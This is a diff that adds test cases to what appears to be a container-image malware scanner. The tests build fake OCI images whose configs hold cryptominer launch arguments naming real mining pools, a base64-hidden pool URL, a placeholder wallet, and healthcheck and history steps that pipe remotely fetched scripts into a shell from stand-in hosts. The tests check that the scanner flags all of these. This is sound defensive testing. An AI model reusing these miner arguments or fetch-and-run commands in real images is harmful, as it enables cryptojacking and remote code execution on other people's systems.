@@ -490,6 +490,61 @@ def big_file_skips_content_detectors_visibly():
     one_finding(r, "SW-INCOMPLETE", "/big", 0)
 
 
+# ---------------------------------------------------------------- config and history
+
+FAKE_WALLET = "4" + "AbCdEfGhJk" * 9 + "MnPq"  # 95 base58 characters: the shape only
+
+
+@case
+def config_and_history_reveal_the_miner():
+    import base64
+    root = d("cfg")
+    layers = [base_layer(created_by="RUN curl -fsSL https://deb.example.invalid/setup_20.x | bash -"),
+              Layer([E("x", b"x")], created_by="COPY x /")]
+    hidden_pool = base64.b64encode(b"stratum+tcp://pool.c3pool.com:13333").decode()
+    oci_image(root, layers, cfg_extra={
+        "config": {"Entrypoint": ["/usr/bin/jupdate"],
+                   "Cmd": ["-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", FAKE_WALLET,
+                           "--donate-level", "1"],
+                   "Env": ["PATH=/usr/bin:/bin", "POOL_B64=" + hidden_pool],
+                   "Healthcheck": {"Test": ["CMD-SHELL", "wget -qO- http://x.invalid/h.sh | sh"]}},
+        "history": [{"created_by": "/bin/sh -c #(nop) ENV A=b", "empty_layer": True},
+                    {"created_by": layers[0].created_by}, {"created_by": layers[1].created_by}]})
+    r = scan(root)
+    eq(r.rc, 1, r.err)
+    by = {}
+    for f in r.json["findings"]:
+        by.setdefault(f["id"], []).append(f)
+    ids = sorted(by)
+    for want in ("SW-CONFIG-FETCH-EXEC", "SW-CONFIG-MINER-ARGS", "SW-CONFIG-POOL", "SW-CONFIG-WALLET",
+                 "SW-HISTORY-FETCH-EXEC"):
+        ok(want in by, "%s in %s" % (want, ids))
+    start = [f for f in by["SW-CONFIG-MINER-ARGS"] if f["evidence"]["field"] == "Entrypoint+Cmd"][0]
+    eq((start["severity"], start["category"], start["path"], start["layer"]), ("critical", "miner", None, None),
+       "miner options at start")
+    eq(by["SW-CONFIG-WALLET"][0]["evidence"]["match"], FAKE_WALLET, "wallet")
+    decoded = [f for f in by["SW-CONFIG-POOL"] if f["evidence"]["field"] == "Env"]
+    ok(decoded and decoded[0]["evidence"]["decoded"].startswith("stratum+tcp://pool.c3pool.com"),
+       "base64 pool decoded: %s" % decoded)
+    hc = by["SW-CONFIG-FETCH-EXEC"][0]
+    eq((hc["severity"], hc["category"]), ("high", "dropper"), "fetch-and-exec at start")
+    h = by["SW-HISTORY-FETCH-EXEC"][0]
+    eq((h["severity"], h["layer"], h["created_by"]), ("low", 0, layers[0].created_by),
+       "history step attributed to its layer")
+    eq(r.json["verdict"], "malicious", "verdict")
+
+
+@case
+def wallet_shape_without_mining_context_is_quiet():
+    root = d("cfg2")
+    oci_image(root, [base_layer(created_by="RUN apt-get install -y curl && curl -o /tmp/x https://example.invalid/x")],
+              cfg_extra={"config": {"Cmd": ["python3", "app.py"], "Labels": {"checksum": FAKE_WALLET},
+                                    "Env": ["TOKEN=" + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo="]}})
+    r = scan(root)
+    eq(r.rc, 0, r.err)
+    eq([f["id"] for f in r.json["findings"]], [], "no findings")
+
+
 # ---------------------------------------------------------------- hostile input
 
 @case
